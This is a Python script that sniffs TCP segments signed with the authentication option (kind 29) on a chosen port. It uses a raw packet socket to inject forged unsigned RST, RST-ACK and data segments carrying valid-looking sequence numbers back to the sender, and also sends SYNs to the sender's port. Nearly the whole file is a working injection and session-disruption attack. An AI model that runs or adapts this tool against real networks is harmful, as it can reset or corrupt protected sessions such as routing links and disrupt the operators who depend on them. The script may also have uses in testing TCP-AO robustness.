#!/usr/bin/env python3
"""Forges unsigned TCP segments of a peer, with the right numbers, while protected sessions go on.

usage: ao_forge.py DEVICE PORT

For every signed segment (option 29) that comes in by the device with PORT at either end, it sends an RST and a segment with data to its
sender, by a packet socket, which rules do not see: without the option, with sequence numbers that the sender takes. It
also sends SYNs to PORT of the sender if that is its own. Prints "forges" with the first of them, ends with its standard input, and
prints then how many it has sent and how many SYNs were answered."""
import itertools
import random
import select
import socket
import struct
import sys
import time

ETH_P_IP, ETH_P_IPV6, PACKET_OUTGOING = 0x0800, 0x86DD, 4
FIN, SYN, RST, PSH, ACK = 1, 2, 4, 8, 16
# The least time between two forged bursts, in seconds.
PACE = 0.002
# Forged data is so many bytes ahead of the connection.
AHEAD = 3000


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def options(tcp):
    at = 20
    while at < len(tcp):
        kind = tcp[at]
        if kind == 0:
            return
        yield kind
        at += 1 if kind == 1 or at + 1 >= len(tcp) else max(2, tcp[at + 1])


class Segment:
    """A segment of a frame; `tcp` is None if there is none."""

    def __init__(self, frame):
        self.tcp = None
        kind = struct.unpack_from(">H", frame, 12)[0]
        if kind == ETH_P_IP and len(frame) >= 34 and frame[23] == socket.IPPROTO_TCP:
            start = 14 + (frame[14] & 15) * 4
            self.source, self.to = frame[26:30], frame[30:34]
            end = 14 + struct.unpack_from(">H", frame, 16)[0]
        elif kind == ETH_P_IPV6 and len(frame) >= 54 and frame[20] == socket.IPPROTO_TCP:
            start, self.source, self.to = 54, frame[22:38], frame[38:54]
            end = 54 + struct.unpack_from(">H", frame, 18)[0]
        else:
            return
        if len(frame) < start + 20:
            return
        self.link = frame[:14]
        self.ports = struct.unpack_from(">HH", frame, start)
        self.seq, self.ack = struct.unpack_from(">II", frame, start + 4)
        self.flags = frame[start + 13]
        self.tcp = frame[start:start + (frame[start + 12] >> 4) * 4]
        self.next = self.seq + max(0, end - start - len(self.tcp)) + bool(self.flags & SYN) + bool(self.flags & FIN) & 0xFFFFFFFF
        self.signed = 29 in options(self.tcp)

    def answer(self, flags, seq, ack, payload=b"", port=None):
        """A frame to the sender of this one, without the option."""
        source, to = self.to, self.source
        tcp = struct.pack(">HHIIBBHHH", port or self.ports[1], self.ports[0], seq, ack, 5 << 4, flags, 65000, 0, 0) + payload
        pseudo = source + to + struct.pack(">IHBB", len(tcp), 0, 0, 6)
        tcp = tcp[:16] + struct.pack(">H", checksum(pseudo + tcp)) + tcp[18:]
        link = self.link[6:12] + self.link[:6] + self.link[12:]
        if len(source) == 16:
            return link + struct.pack(">IHBB", 6 << 28, len(tcp), 6, 64) + source + to + tcp
        head = struct.pack(">BBHHHBBH", 0x45, 0, 20 + len(tcp), 0, 0x4000, 64, 6, 0) + source + to
        return link + head[:10] + struct.pack(">H", checksum(head)) + head[12:] + tcp


def main(device, port):
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    sock.bind((device, 0))
    sent = answered = 0
    syns, due = itertools.cycle(range(20000, 30000)), 0.0
    while True:
        ready = select.select([sock, sys.stdin], [], [])[0]
        if sys.stdin in ready:
            print(f"forged {sent} answered {answered}", flush=True)
            return
        try:
            frame, address = sock.recvfrom(65536)
        except OSError:
            # The device is down.
            continue
        if address[2] == PACKET_OUTGOING or len(frame) < 34:
            continue
        segment = Segment(frame)
        if segment.tcp is None or port not in segment.ports:
            continue
        if segment.flags & (SYN | ACK) == SYN | ACK and 20000 <= segment.ports[1] < 30000:
            answered += 1
            continue
        if not segment.signed or not segment.flags & ACK or time.monotonic() < due:
            continue
        due = time.monotonic() + PACE
        frames = [
            # By the time that this arrives the connection has gone on: data ahead of it waits in the receiver's queue.
            segment.answer(PSH | ACK, segment.ack + AHEAD & 0xFFFFFFFF, segment.next, b"forged" * 50),
            segment.answer(RST, segment.ack, 0),
            segment.answer(RST | ACK, segment.ack, segment.next),
        ]
        if segment.ports[0] == port:
            frames.append(segment.answer(SYN, random.randrange(1 << 32), 0, port=next(syns)))
        try:
            for frame in frames:
                sock.send(frame)
        except OSError:
            continue
        if not sent:
            print("forges", flush=True)
        sent += len(frames)


main(sys.argv[1], int(sys.argv[2]))
